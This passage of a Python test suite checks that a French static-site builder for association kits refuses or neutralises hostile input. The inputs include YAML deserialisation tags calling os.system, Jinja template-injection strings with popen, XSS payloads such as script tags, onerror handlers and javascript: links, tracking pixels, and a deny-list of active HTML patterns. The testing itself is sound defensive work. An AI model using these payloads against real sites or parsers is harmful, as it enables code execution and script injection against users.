        "/fichiers/archive.zip : Le fichier « fichiers/archive.zip » est refusé : le type de fichier « .zip » n'est pas accepté. Types acceptés : documents (.csv, .docx, .odg, .odp, .ods, .odt, .pdf, .pptx, .txt, .xlsx) et images (.gif, .jpeg, .jpg, .png, .svg, .webp).",
    ]),
    ('yaml-alias-bombe', [
        '/kit.yml, ligne 14 : Les ancres YAML (« &nom ») ne sont pas acceptées ; retirez-les.',
    ]),
    ('yaml-binaire', [
        "/kit.yml, ligne 1 : La balise YAML « !!binary » n'est pas acceptée ; écrivez une simple valeur.",
    ]),
    ('yaml-chaine-enorme', [
        '/kit.yml, ligne 1 : Cette valeur est trop longue (29999 caractères, maximum 20000) ; le texte long a sa place dans les fichiers Markdown des parties du kit.',
    ]),
    ('yaml-cle-python', [
        "/kit.yml, ligne 13 : La balise YAML « !!python/tuple » n'est pas acceptée ; écrivez une simple valeur.",
    ]),
    ('yaml-enorme', [
        '/kit.yml : Le fichier est trop volumineux (356 Ko, maximum 256 Ko) ; découpez-le ou allégez-le.',
    ]),
    ('yaml-multi-documents', [
        "/kit.yml, ligne 13 : La syntaxe YAML est invalide (un seul document est attendu : retirez la ligne « --- » qui en ouvre un second) ; vérifiez l'indentation, les deux-points après chaque clé et les guillemets.",
    ]),
    ('yaml-noeuds', [
        "/kit.yml : Le document YAML est trop gros ; un kit n'a besoin que de quelques dizaines de valeurs.",
    ]),
    ('yaml-non-utf8', [
        "/kit.yml, ligne 8 : Le texte n'est pas encodé en UTF-8 ; enregistrez le fichier en UTF-8 (dans votre éditeur : « Enregistrer sous », encodage UTF-8).",
    ]),
    ('yaml-profondeur', [
        "/kit.yml, ligne 13 : Les valeurs sont imbriquées trop profondément (plus de 20 niveaux) ; un kit n'a besoin que de listes et de clés simples.",
    ]),
    ('yaml-python-name', [
        "/kit.yml, ligne 2 : La balise YAML « !!python/name:os.system » n'est pas acceptée ; écrivez une simple valeur.",
    ]),
    ('yaml-python-object', [
        "/kit.yml, ligne 1 : La balise YAML « !!python/object/apply:os.system » n'est pas acceptée ; écrivez une simple valeur.",
    ]),
    # A standard tag on a value it cannot read: PyYAML's constructors raise ValueError or KeyError, never shown.
    ('yaml-balise-illisible', [
        "/kit.yml, ligne 1 : La valeur « 2026-02-30 » n'est pas lisible ; écrivez-la entre guillemets, sans balise « !!… » devant.",
    ]),
    ('autodiagnostic-balise-illisible', [
        "/autodiagnostic.yml, ligne 6 : La valeur « beaucoup » n'est pas lisible ; écrivez-la entre guillemets, sans balise « !!… » devant.",
    ]),
    ('autodiagnostic-valeurs-piegees', [
        '/autodiagnostic.yml, ligne 5 : « libelle » vaut « No » sans guillemets : YAML peut le lire comme oui ou non (un booléen) plutôt que comme un texte ; mettez-le entre guillemets : libelle: "No".',
        "/autodiagnostic.yml, ligne 17 : « de » doit être un nombre écrit sans guillemets, avec un point avant les décimales (par exemple 12 ou 2.5), pas « 0,5 ».",
    ]),
    # A note nobody calls passed make check, then the engine refused the page in English.
    ('note-sans-appel', [
        "/illustrations.md, ligne 5 : La note « [^oubliee] » est définie ici mais n'est appelée nulle part dans la partie ; écrivez « [^oubliee] » dans le texte à l'endroit de l'appel, ou supprimez la note.",
        "/illustrations.md, ligne 7 : Avertissement — La note « [^absente] » est appelée ici mais n'est définie nulle part dans la partie : elle s'affichera telle quelle. Ajoutez sa définition sur une ligne à part, par exemple en fin de partie : « [^absente]: le texte de la note ».",
    ]),
]


def _lines(output: str, case: str) -> list[str]:
    prefix = f"kits/{case}"
    return [line[len(prefix):] for line in output.splitlines() if line.startswith((prefix + "/", prefix + " ", prefix + ","))]


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> str:
    """All refused cases in one kits tree, checked once by scripts/check.py."""
    root = make_tree(tmp_path_factory.mktemp("hostile-check") / "kits", [case for case, _ in CHECK_CASES])
    before = snapshot(root.parent)
    result = run_script("check.py", str(root))
    assert snapshot(root.parent) == before, "la vérification a écrit des fichiers"
    for canary in CANARIES:
        assert not canary.exists(), f"un gabarit a été exécuté : {canary}"
    output = result.stdout + result.stderr
    assert "Traceback" not in output
    assert result.returncode == 1
    return output


@pytest.mark.parametrize("case, expected", CHECK_CASES, ids=[c for c, _ in CHECK_CASES])
def test_refused_with_exact_message(checked: str, case: str, expected: list[str]) -> None:
    assert _lines(checked, case) == expected


def test_every_case_folder_is_in_a_table() -> None:
    folders = {p.name for p in HOSTILE.iterdir() if p.is_dir() and not p.name.startswith("_")}
    tabled = {c for c, _ in CHECK_CASES} | {c for c, *_ in BUILD_CASES} | {"registres-piegés", "registre-alias"}
    assert folders == tabled
    assert len(folders) >= 100


def test_registry_with_alias_is_refused(tmp_path: Path) -> None:
    root = make_tree(tmp_path / "kits", ["registre-alias"])
    result = run_script("check.py", str(root))
    assert "Traceback" not in result.stdout + result.stderr
    assert result.returncode == 1
    assert result.stdout.splitlines()[0] == (
        "kits/chiffres.yml, ligne 1 : Les ancres YAML (« &nom ») ne sont pas acceptées ; retirez-les.")


# Kits that build, with their hostile content made inert: (case, page, text that must be in the page, patterns
# that must not be in the page's content). Besides, no tag of the content may match ACTIVE.
# Registries of the build: registres-piegés (with payloads of their own).
ARTICLE = re.compile(r'<article class="md-content__inner md-typeset">(.*?)</article>', re.S)
ACTIVE = [r"<script", r"<iframe", r"<object", r"<embed", r"<form", r"<style", r"<base", r"<meta", r"<link",
          r"<math", r"<noscript", r"\son[a-z]+\s*=", r"\sstyle\s*=", r"javascript:", r"\starget\s*="]
BUILD_CASES: list[tuple[str, str, list[str], list[str]]] = [
    ("gabarit-partie", "kits/gabarit-partie/cadre-de-reference.html",
     ["{% for i in range(3) %}boucle-gabarit{% endfor %} {# commentaire #}", "{{ config }}",
      "{{ self._TemplateReference__context }}", "popen('id -un &gt; /tmp/centres-canari-hostile; touch canari-hostile')"],
     [r"boucle-gabaritboucle", r"site_name", r"&lt;mkdocs"]),
    ("gabarit-kit-yml", "kits/gabarit-kit-yml/index.html",
     ["{% for i in range(3) %}boucle-resume{% endfor %} {{ 6*7 }}", "{{ config.site_name }}", "Titre {{ lipsum."],
     [r"boucle-resumeboucle", r"\b42\b"]),
    ("gabarit-markdown-produit", "kits/gabarit-markdown-produit/methodologie.html",
     ["popen('id -un &gt; /tmp/centres-canari-hostile", "&lt;img src=x onerror=alert('source')&gt;", "{{ 6*7 }}"],
     [r"\b42\b"]),
    ("html-balises", "kits/html-balises/illustrations.html",
     ['<details open=""><summary>Résumé</summary>Détails</details>', ">grille</a>", "<p>stylé</p>"],
     [r"<input[^>]*password", r"<button", r"alert\("]),
    ("html-clobbering", "kits/html-clobbering/methodologie.html",
     ['<div id="ancre-ordinaire">gardé</div>', "<div>tiroir</div>"],
     [r'id="__', r'for="__', r'type="text"']),
    ("html-titres", "kits/html-titres/index.html",
     ["<title>Titre &lt;script&gt;alert(&quot;titre&quot;)&lt;/script&gt;",
      '<meta name="description" content="Résumé &quot;&gt;&lt;script&gt;'],
     [r"<script>alert", r"<img src=x", r"<iframe", r'href="javascript:']),
    ("html-attr-list", f"kits/html-attr-list/{TOOLS.id}.html",
     ["<p>Un paragraphe piégé.</p>", '<a href="fichiers/grille.csv" rel="noopener noreferrer">La grille</a>'],
     [r'id="__config"']),
    ("html-input-texte", "kits/html-input-texte/methodologie.html",
     ['<input type="checkbox" checked="">'],
     [r'type="text"', r'type="password"', r"<input(?![^>]*checkbox)[^>]*>"]),
    # Titles and summaries are text: shown as written (with French spacing), no Markdown, no HTML, no icon.
    ("titres-markdown", "kits/titres-markdown/index.html",
     ["Kit **gras** :material-alert: [clic](https://pisteur.example/) &amp;amp; C#", "<p>- une liste\u202f?</p>",
      "2024. Une année {: onclick=alert(1) } ![x](https://pisteur.example/p.png)", "`code` _italique_ *[ABBR]: sigle"],
     [r"<strong>gras", r"pisteur\.example/\"", r"<abbr", r"<em>italique", r"<li>une liste"]),
    # Accepted downloads: a PDF with an ordinary link, signed numbers in a CSV, an SVG gradient of its own.
    ("pdf-lien", "kits/pdf-lien/index.html", [], []),
    ("csv-nombres-signes", "kits/csv-nombres-signes/index.html", [], []),
    ("svg-css-url-interne", "kits/svg-css-url-interne/index.html", [], []),
    ("contenu-autorise", "kits/contenu-autorise/cadre-de-reference.html",
     ["<table>", '<div class="admonition note">', '<details class="tip">', '<div class="footnote">',
      '<div class="highlight">', '<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">',
      'type="checkbox"', '<abbr title="Économie sociale et solidaire">ESS</abbr>', "<dl>",
      '<img alt="Schéma" src="fichiers/schema.svg">', '<img alt="Photo" src="fichiers/photo.png">',
      "<details><summary>Détails</summary>Contenu replié.</details>", "<mark>surligné</mark>", "<kbd>Ctrl</kbd>",
      "H<sub>2</sub>O", 'id="fnref:1"'],
     []),
]
# The same kits' text appears on the home page, the challenge page and the navigation: all of it escaped.
SHARED_PAGES = ["index.html", "enjeux/evaluation/index.html", "kits/html-titres/methodologie.html"]
RAW_PAYLOADS = [r"<script>alert", r"<img src=x", r"<iframe src=", r"<img src=fichiers/grille\.csv onerror"]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The build cases in one kits tree (with the booby-trapped registries), built once; the tmp folder and the
    canary paths are compared before and after."""
    for canary in CANARIES:
        canary.unlink(missing_ok=True)
    work = tmp_path_factory.mktemp("hostile-build")
    root = make_tree(work / "kits", [case for case, *_ in BUILD_CASES], registries=HOSTILE / "registres-piegés")
    before = snapshot(work)
    result = run_script("build.py", "--kits", str(root), "--site", str(work / "site"))
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "Traceback" not in output
    created = {p for p in snapshot(work) - before if not p.startswith("site")} - {".site.lock"}
    assert created == set(), "fichiers créés hors du dossier de sortie"
    for canary in CANARIES:
        assert not canary.exists(), f"un gabarit a été exécuté : {canary}"
    return work / "site" / "associations"


@pytest.mark.parametrize("case, page, kept, refused", BUILD_CASES, ids=[c for c, *_ in BUILD_CASES])
def test_built_inert(built: Path, case: str, page: str, kept: list[str], refused: list[str]) -> None:
    html = (built / page).read_text(encoding="utf-8")
    match = ARTICLE.search(html)
    assert match, page
    content = match.group(1)
    tags = "\n".join(re.findall(r"<[A-Za-z][^<>]*>", content))
    for text in kept:
        assert text in html, text
    for pattern in ACTIVE:
        assert not re.search(pattern, tags), pattern
    for pattern in refused:
        assert not re.search(pattern, html if case == "html-titres" else content), pattern


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name, value or "") for name, value in attrs]


def _attributes(html: str) -> list[tuple[str, str, str]]:
    """Every (tag, attribute, decoded value) of a page, as a browser's parser sees them."""
    parser = _Attributes()
    parser.feed(html)
    return parser.found


def test_no_active_content_anywhere(built: Path) -> None:
    site = built.parent
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 40
    for page in pages:
        html = page.read_text(encoding="utf-8")
        for pattern in RAW_PAYLOADS:
            assert not re.search(pattern, html), (page, pattern)
        for tag, name, value in _attributes(html):
            assert not name.startswith("on"), (page, tag, name)
            if name in ("href", "src", "action", "formaction", "data"):
                assert not re.match(r"(?:javascript|data|vbscript):", re.sub(r"[\x00-\x20]", "", value), re.I), (page, value)
        # Material's settings script is the only element with the id #__config.
        assert html.count('id="__config"') <= 1, page


@pytest.mark.parametrize("page", SHARED_PAGES)
def test_kit_text_escaped_in_shared_pages(built: Path, page: str) -> None:
    html = (built / page).read_text(encoding="utf-8")
    assert "Titre &lt;script&gt;alert(" in html
    assert "Évaluation &lt;script&gt;alert(&quot;enjeu&quot;)&lt;/script&gt;" in html  # navigation entry
    for pattern in RAW_PAYLOADS:
        assert not re.search(pattern, html), pattern


def test_registries_escaped_on_portal_and_home(built: Path) -> None:
    portal = (built.parent / "index.html").read_text(encoding="utf-8")
    home = (built / "index.html").read_text(encoding="utf-8")
    assert "Centre &lt;script&gt;alert(&quot;centre&quot;)&lt;/script&gt; {{ 7*7 }}" in portal
    assert "{% for i in range(3) %}boucle{% endfor %}" in home
    assert "<title>Centre &lt;script&gt;alert(&quot;centre&quot;)&lt;/script&gt; {{ 7*7 }} - " in home
    for html in (portal, home):
        for pattern in RAW_PAYLOADS + [r"&lt;/script&gt; 49"]:
            assert not re.search(pattern, html), pattern


def test_allowed_files_are_published(built: Path) -> None:
    files = built / "kits" / "contenu-autorise" / "fichiers"
    assert (files / "schema.svg").read_bytes() == (HOSTILE / "contenu-autorise" / "fichiers" / "schema.svg").read_bytes()
    assert (files / "photo.png").is_file()
    # Nothing but the accepted files of the kits is copied, beside the PDF and EPUB the build makes of each kit.
    published = [p for p in built.rglob("*") if p.is_file() and "/kits/" in p.as_posix()]
    documents = {p for p in published if p.parent.parent.name == "kits" and p.stem == p.parent.name
                 and p.suffix.lstrip(".") in reserved.DOCUMENT_EXTENSIONS}
    assert len(documents) == len(reserved.DOCUMENT_EXTENSIONS) * len(list((built / "kits").glob("*/index.html")))
    assert {p.suffix for p in published if p not in documents} <= {".html", ".csv", ".ods", ".svg", ".png", ".pdf"}
    assert (built / "kits" / "pdf-lien" / "fichiers" / "guide.pdf").is_file()
    assert (built / "kits" / "csv-nombres-signes" / "fichiers" / "grille.csv").is_file()


def test_check_is_clean_for_build_cases(tmp_path: Path) -> None:
    root = make_tree(tmp_path / "kits", [case for case, *_ in BUILD_CASES], registries=HOSTILE / "registres-piegés")
    result = run_script("check.py", str(root))
    assert result.returncode == 0, result.stdout
    assert "Traceback" not in result.stdout + result.stderr
    # Template syntax and stripped HTML are announced to the contributor, as warnings.
    assert ("kits/html-input-texte/methodologie.md, ligne 3 : Avertissement — Le champ « <input type=\"text\"> » n'est "
            "pas accepté par le site : seules les cases à cocher des listes de tâches sont gardées ; il sera retiré de "
            "la page (voir « Contenus autorisés » dans la rubrique À propos du site).") in result.stdout
    assert ("kits/html-balises/illustrations.md, ligne 3 : Avertissement — La balise « <script> » n'est pas acceptée "
            "par le site : elle sera retirée de la page (voir « Contenus autorisés » dans la rubrique À propos du "
            "site).") in result.stdout
    assert ("kits/html-balises/illustrations.md, ligne 31 : Avertissement — L'attribut « onclick » de la balise "
            "« <a> » n'est pas accepté par le site : il sera retiré de la page (voir « Contenus autorisés » dans la "
            "rubrique À propos du site).") in result.stdout


def test_registry_figures_are_text_on_the_about_page(built: Path) -> None:
    # docs/a-propos.md is a trusted page, but its figures come from chiffres.yml: literal text, then sanitised.
    html = (built / "a-propos.html").read_text(encoding="utf-8")
    content = ARTICLE.search(html).group(1)
    assert "<td>![x](#){: onerror=alert(document.domain) }</td>" in content
    assert "<td>[clic](javascript:alert('libelle'))</td>" in content
    assert "![pisteur](https://pisteur.example/pixel.png) &lt;img src=https://pisteur.example/i.png&gt; | colonne" in content
    tags = "\n".join(re.findall(r"<[A-Za-z][^<>]*>", content))
    for pattern in ACTIVE + [r"<img", r"pisteur\.example", r"<a [^>]*javascript"]:
        assert not re.search(pattern, tags), pattern


# A sample of built hostile pages and images, opened from disk in Chromium: no dialog may open, no request may
# leave the folder (file://), whatever the kits and registries hold.
BROWSER_SAMPLE = [
    "a-propos.html", "index.html", "kits/html-titres/index.html", "kits/html-balises/illustrations.html",
    f"kits/html-attr-list/{TOOLS.id}.html", "kits/gabarit-partie/cadre-de-reference.html",
    "kits/html-input-texte/methodologie.html", "kits/titres-markdown/index.html",
    "kits/contenu-autorise/fichiers/schema.svg", "kits/svg-css-url-interne/fichiers/dessin.svg",
]


def test_no_script_and_no_outside_request_in_chromium(built: Path, browser) -> None:
    context = browser.new_context()
    dialogs: list[str] = []
    outside: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: None if request.url.startswith(("file://", "data:", "about:"))
            else outside.append(request.url))
    try:
        for path in BROWSER_SAMPLE:
            page.goto((built / path).as_uri())
            page.wait_for_load_state("load")
            page.wait_for_timeout(100)  # let timers and lazy images run
            # Every link and image of the page, hovered and loaded: nothing may fire.
            for img in page.locator("img").all():
                img.scroll_into_view_if_needed()
        assert dialogs == [], dialogs
        assert outside == [], outside
        # The text input of html-input-texte is gone; its task-list checkbox stayed.
        page.goto((built / "kits/html-input-texte/methodologie.html").as_uri())
        assert page.locator("article input:not([type=checkbox])").count() == 0
        assert page.locator("article input[type=checkbox]").count() == 1
    finally:
        context.close()
